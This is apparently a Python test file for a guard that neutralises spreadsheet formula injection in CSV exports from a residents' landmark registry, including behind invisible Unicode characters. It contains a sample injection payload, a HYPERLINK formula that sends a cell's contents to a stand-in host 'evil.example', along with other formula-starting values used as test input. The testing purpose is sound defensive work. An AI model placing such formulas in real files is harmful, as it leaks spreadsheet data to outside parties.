"""No cell of anything that leaves the desk is a formula, whatever program opens it and whatever a resident wrote."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.registry import Landmark
from storage.inert import GUARD, inert, inert_but_numbers, meant
from storage.registry_files import demo_registry, read_csv_set, write_csv_set

EVIL = '=HYPERLINK("https://evil.example?"&A1,"看")'
UNSEEN = ("\u200b", "\ufeff", " ", "\u3000", "\u2060\u202e", "\u00ad")
BEGINNINGS = "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize("first", ["", *UNSEEN])
@pytest.mark.parametrize("sign", BEGINNINGS)
def test_what_would_begin_a_formula_is_guarded_also_behind_what_nobody_sees(first: str, sign: str) -> None:
    words = f"{first}{sign}1+1"
    assert inert(words) == GUARD + words


@given(st.text(max_size=20) | st.sampled_from(BEGINNINGS).flatmap(lambda sign: st.text(max_size=9).map(sign.__add__)))
def test_what_is_guarded_is_read_again_as_it_was_meant(words: str) -> None:
    assert meant(inert(words)) == words or words.startswith(GUARD)
    assert meant(inert_but_numbers(words)) == words or words.startswith(GUARD)
    assert inert(words)[:1] not in set(BEGINNINGS)


def test_numbers_stay_numbers() -> None:
    assert [inert_but_numbers(word) for word in ("-113.3", "+86", "-1+1", "3-5")] == ["-113.3", "+86", "'-1+1", "3-5"]


def test_a_landmark_that_residents_named_is_no_formula_in_the_registrys_files(tmp_path: Path) -> None:
    """A worker's word makes a place of what a resident called it; the district takes the registry home and opens it."""
    registry = demo_registry()
    grid = registry.grids[0]
    evil = replace(registry, landmarks=(Landmark(EVIL, "@SUM(1)", (grid.code,), ("+1+1", "老槐树")),))
    write_csv_set(evil, tmp_path)
    for path in tmp_path.glob("*.csv"):
        rows = csv.reader(path.read_text("utf-8-sig").splitlines())
        cells = [cell for row in rows for cell in row if not cell.lstrip("-").replace(".", "").isdigit()]
        assert [cell for cell in cells if cell[:1] in set(BEGINNINGS)] == [], path.name
    assert read_csv_set(tmp_path).landmarks == evil.landmarks
